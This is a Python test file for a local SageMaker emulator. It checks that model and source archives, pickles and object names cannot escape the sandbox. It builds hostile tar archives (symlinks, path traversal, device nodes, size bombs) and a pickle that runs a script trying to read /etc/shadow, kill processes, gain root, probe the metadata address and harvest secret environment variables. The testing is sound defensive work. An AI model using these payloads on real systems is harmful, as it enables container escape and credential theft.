"""Archives and names that nobody meant well, wherever the platform or a job takes them in: models, sources, inputs,
checkpoints."""

from __future__ import annotations

import gzip
import importlib.util
import io
import json
import stat
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError

from bastide.engines.images import environment
from bastide.services.sagemaker import archive
from tests.attack.test_hostile_jobs import left
from tests.platform import Account, Running, below
from tests.stories.sagemaker.conftest import IMAGE, Workshop, workshop_of
from tests.stories.sagemaker.serving import config, container, model, serve, variant
from tests.stories.sagemaker.test_channels import channel

Member = tuple[str, bytes, dict[str, Any]]


def file(name: str, content: bytes = b"hostile") -> Member:
    return name, content, {}


def other(name: str, kind: bytes, **more: Any) -> Member:
    return name, b"", {"type": kind, **more}


def packed(*members: Member) -> bytes:
    """A tar.gz of members, in this order; what their headers say may be what no tar program writes."""
    made = io.BytesIO()
    with gzip.GzipFile(fileobj=made, mode="wb") as zipped:
        for name, content, more in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            for key, value in more.items():
                setattr(info, key, value)
            zipped.write(info.tobuf(tarfile.GNU_FORMAT))
            zipped.write(content + bytes(-len(content) % 512))
        zipped.write(bytes(1024))
    return made.getvalue()


HOST = "/etc/hostname"
DEVICE = {"devmajor": 1, "devminor": 1}
HOSTILE: dict[str, tuple[Member, ...]] = {
    "a link out": (other("out", tarfile.SYMTYPE, linkname="/etc"), file("out/bastide-was-here")),
    "a link up": (other("up", tarfile.SYMTYPE, linkname="../../.."), file("up/bastide-was-here")),
    "a link to a file": (other("m.txt", tarfile.SYMTYPE, linkname=HOST), file("m.txt")),
    "a hard link": (other("m.txt", tarfile.LNKTYPE, linkname=HOST), file("m.txt")),
    "a hard link in the archive": (file("a"), other("m.txt", tarfile.LNKTYPE, linkname="a")),
    "memory as a device": (other("mem", tarfile.CHRTYPE, **DEVICE),),
    "a disk as a device": (other("disk", tarfile.BLKTYPE, **DEVICE),),
    "a pipe": (other("pipe", tarfile.FIFOTYPE),),
    "a name above": (file("../bastide-was-here"),),
    "a name above in the middle": (file("a/../../bastide-was-here"),),
    "an absolute name": (file("/tmp/bastide-was-here"),),
    "a file as a folder": (file("a"), file("a/b")),
    "a folder as a file": (file("a/b"), file("a")),
    "a terabyte of holes": (other("holes", tarfile.GNUTYPE_SPARSE, size=1 << 40),),
    "a terabyte that is not there": (other("big", tarfile.REGTYPE, size=1 << 40),),
    "a size below nothing": (other("less", tarfile.REGTYPE, size=-512), file("m.txt")),
    "a size below nothing in the middle": (file("m.txt", bytes(4096)), other("less", tarfile.REGTYPE, size=-5120)),
    "an end in the middle": (file("m.txt"), other("cut", tarfile.REGTYPE, size=1 << 20)),
}


def seen(folder: Path) -> dict[str, Any]:
    """What lies below a folder: kind, mode and content."""
    found = {}
    for path in folder.rglob("*"):
        told = path.lstat()
        found[str(path.relative_to(folder))] = (
            stat.filemode(told.st_mode),
            path.read_bytes() if stat.S_ISREG(told.st_mode) and told.st_size < 1 << 20 else b"",
        )
    return found


@pytest.mark.parametrize("members", HOSTILE.values(), ids=HOSTILE)
def test_a_models_archive_reaches_nothing_outside_of_its_folder(tmp_path: Path, members: tuple[Member, ...]) -> None:
    home, bomb = tmp_path / "home" / "model", tmp_path / "model.tar.gz"
    home.mkdir(parents=True)
    bomb.write_bytes(packed(*members))
    host = Path(HOST).read_bytes()
    before = {name: one for name, one in seen(tmp_path).items() if not name.startswith("home/model/")}
    with pytest.raises((archive.Unfit, OSError)):
        archive.unpack(bomb, home, most_bytes=1 << 30)
    after = seen(tmp_path)
    assert {name: one for name, one in after.items() if not name.startswith("home/model/")} == before
    inside = [one for name, one in after.items() if name.startswith("home/model/")]
    assert all(mode[0] in "-d" and "s" not in mode and "t" not in mode for mode, _ in inside)
    assert Path(HOST).read_bytes() == host
    assert not list(tmp_path.rglob("bastide-was-here")) and not Path("/tmp/bastide-was-here").exists()


def test_of_a_name_that_comes_twice_the_last_counts_and_no_bit_of_a_mode_is_kept(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    hidden = (file("m.txt", b"looked at"), ("m.txt", b"loaded", {"mode": 0o7777, "uid": 0}))
    (tmp_path / "t").write_bytes(packed(*hidden))
    archive.unpack(tmp_path / "t", tmp_path / "out", most_bytes=1 << 20)
    assert seen(tmp_path / "out") == {"m.txt": ("-rw-r--r--", b"loaded")}


@pytest.fixture(scope="module")
def unpack() -> Callable[[Path, Path], None]:
    """How a job unpacks its source."""
    place = environment._TOOLKIT / "train.py"
    spec = importlib.util.spec_from_file_location("bastide_toolkit_train", place)
    assert spec is not None and spec.loader is not None
    made = importlib.util.module_from_spec(spec)
    sys.path.insert(0, str(place.parent))
    try:
        spec.loader.exec_module(made)
    finally:
        sys.path.remove(str(place.parent))
    found: Callable[[Path, Path], None] = made.unpack
    return found


HARMLESS = (
    "a hard link in the archive",
    "a terabyte of holes",
    "a terabyte that is not there",
    "a size below nothing",
    "a size below nothing in the middle",
)
"""In a job, which is confined as a whole: its own disk's limit ends what is too large."""


@pytest.mark.parametrize("case", [one for one in HOSTILE if one not in HARMLESS])
def test_a_sources_archive_reaches_nothing_outside_of_its_folder(
    tmp_path: Path, unpack: Callable[[Path, Path], None], case: str
) -> None:
    home, bomb = tmp_path / "home" / "code", tmp_path / "source.tar.gz"
    home.mkdir(parents=True)
    bomb.write_bytes(packed(*HOSTILE[case]))
    before = {name: one for name, one in seen(tmp_path).items() if not name.startswith("home/code/")}
    host = Path(HOST).read_bytes()
    try:
        unpack(bomb, home)
    except Exception as error:
        assert type(error).__name__ == "TrainingError", error
    after = seen(tmp_path)
    assert {name: one for name, one in after.items() if not name.startswith("home/code/")} == before
    assert all(mode[0] in "-d" for name, (mode, _) in after.items() if name.startswith("home/code/"))
    assert Path(HOST).read_bytes() == host and not Path("/tmp/bastide-was-here").exists()


# Loaded by whoever serves the model; what it got it tells in its answer.
PICKLED = b"""
import json, os, pickle
class Steals:
    def __reduce__(self): return (print, ())
def model_fn(folder):
    with open(folder + '/m.pkl', 'rb') as file: return pickle.load(file)
def input_fn(body, kind): return body
def predict_fn(data, model): return model
def output_fn(prediction, accept): return json.dumps(prediction), 'application/json'
"""
STEALS = """
import glob, os, socket
got = {'ran': 'yes'}
def attempt(name, do):
    try:
        got[name] = str(do())[:200]
    except Exception:
        pass
attempt('host', lambda: open('/proc/1/root/etc/shadow').read())
attempt('data', lambda: os.listdir('DATA'))
attempt('parent', lambda: os.kill(PARENT, 9))
attempt('own user', lambda: os.getuid() == 0 and 'root' or 1 / 0)
attempt('become', lambda: os.setuid(0))
for other in glob.glob('/opt/ml/models/*') + glob.glob('/opt/ml/*/*/model'):
    attempt('write ' + other, lambda: open(other + '/stolen', 'w'))
for host in ('127.0.0.1', '169.254.169.254', '8.8.8.8', '10.0.0.1'):
    for port in (80, 443, PORT):
        attempt(host, lambda: socket.create_connection((host, port), 0.3))
attempt('secrets', lambda: [one for one in os.environ if 'SECRET' in one or 'TOKEN' in one][0])
attempt('disk', lambda: open('/dev/sda').read(1))
attempt('kernel', lambda: open('/dev/kmsg').read(1))
attempt('cgroup', lambda: open('/sys/fs/cgroup/cgroup.procs', 'w'))
"""


def pickled(script: str) -> bytes:
    """A pickle whose loading runs a script and which then is what the script got."""
    # (lambda: exec; eval) in protocol 0: builtins.eval of one expression.
    expression = f"(lambda space: (exec({script!r}, space), space['got'])[1])({{}})"
    return b"cbuiltins\neval\n(V" + expression.encode("raw_unicode_escape").replace(b"\\", b"\\u005c") + b"\ntR."


def test_hostile_models_behind_an_endpoint_are_refused_one_by_one_and_what_loads_gets_nothing(
    platform: Running, workshop: Workshop
) -> None:
    shop = workshop
    before = left(platform)
    good = container(shop, "good")
    shop.s3.copy_object(
        Bucket=shop.bucket, Key="many/good.tar.gz", CopySource={"Bucket": shop.bucket, "Key": "models/good.tar.gz"}
    )
    code = file("code/inference.py", PICKLED)
    for number, members in enumerate(HOSTILE.values()):
        shop.s3.put_object(Bucket=shop.bucket, Key=f"many/{number}.tar.gz", Body=packed(code, *members))
    assert platform.process is not None
    script = STEALS.replace("DATA", str(platform.data)).replace("PARENT", str(platform.process.pid))
    script = script.replace("PORT", platform.url.rsplit(":", 1)[1])
    shop.s3.put_object(Bucket=shop.bucket, Key="many/pickle.tar.gz", Body=packed(code, file("m.pkl", pickled(script))))
    several = {**good, "Mode": "MultiModel", "ModelDataUrl": f"s3://{shop.bucket}/many/"}
    model(
        shop, "many", several, EnableNetworkIsolation=True
    )  # otherwise what loads has the role, as the model's owner says
    invoke = serve(shop, config(shop, "many", variant("many")), "hostile")
    assert invoke(b"x", TargetModel="good.tar.gz") == b"goodx"
    for number in range(len(HOSTILE)):
        with pytest.raises(ClientError, match="cannot be unpacked") as refused:
            invoke(b"x", TargetModel=f"{number}.tar.gz")
        assert refused.value.response["Error"]["Code"] == "ValidationError"
    assert json.loads(invoke(b"x", TargetModel="pickle.tar.gz")) == {"ran": "yes"}
    assert invoke(b"x", TargetModel="good.tar.gz") == b"goodx"
    assert not Path("/tmp/bastide-was-here").exists()
    shop.sagemaker.delete_endpoint(EndpointName="hostile")
    with pytest.raises(ClientError):
        while True:
            shop.sagemaker.describe_endpoint(EndpointName="hostile")
    assert left(platform) - before == set()


def refusals(shop: Workshop, *names: str, **more: Any) -> None:
    for name in names:
        shop.s3.put_object(Bucket=shop.bucket, Key=f"in/{name}", Body=b"x")
        job = shop.trained(shop.train("", **more))
        assert job["TrainingJobStatus"] == "Failed", name
        assert job["FailureReason"].startswith("ClientError: Data download failed: "), job["FailureReason"]
        shop.s3.delete_object(Bucket=shop.bucket, Key=f"in/{name}")


def test_names_of_objects_lead_nowhere_as_inputs_and_as_checkpoints(platform: Running, account: Account) -> None:
    shop = workshop_of(account)
    before = left(platform)
    shop.s3.put_object(Bucket=shop.bucket, Key="in/good", Body=b"x")
    refusals(shop, "../../../../was-here", "good/below", InputDataConfig=[channel(shop, "in/")])
    refusals(shop, "a/./../../was-here", InputDataConfig=[channel(shop, "in/", "FastFile")])
    refusals(shop, "x/../../../output/failure", CheckpointConfig={"S3Uri": f"s3://{shop.bucket}/in"})
    assert left(platform) - before == set()
    assert not [one for one in below(platform.data) if one.name == "was-here" and one.is_file()]


def test_a_source_that_breaks_out_ends_its_own_job(platform: Running, account: Account) -> None:
    shop = workshop_of(account)
    before = left(platform)
    name = shop.name("source")
    members = (file("train.py", b"print('ran')"), *HOSTILE["a link up"])
    shop.s3.put_object(Bucket=shop.bucket, Key=f"{name}.tar.gz", Body=packed(*members))
    words = {"sagemaker_program": "train.py", "sagemaker_submit_directory": f"s3://{shop.bucket}/{name}.tar.gz"}
    algorithm = {"TrainingImage": IMAGE, "TrainingInputMode": "File"}
    job = shop.trained(shop.train("", HyperParameters=words, AlgorithmSpecification=algorithm))
    assert job["TrainingJobStatus"] == "Failed" and "cannot be unpacked" in job["FailureReason"]
    assert left(platform) - before == set()
    assert not [one for one in below(platform.data) if one.name == "bastide-was-here"]
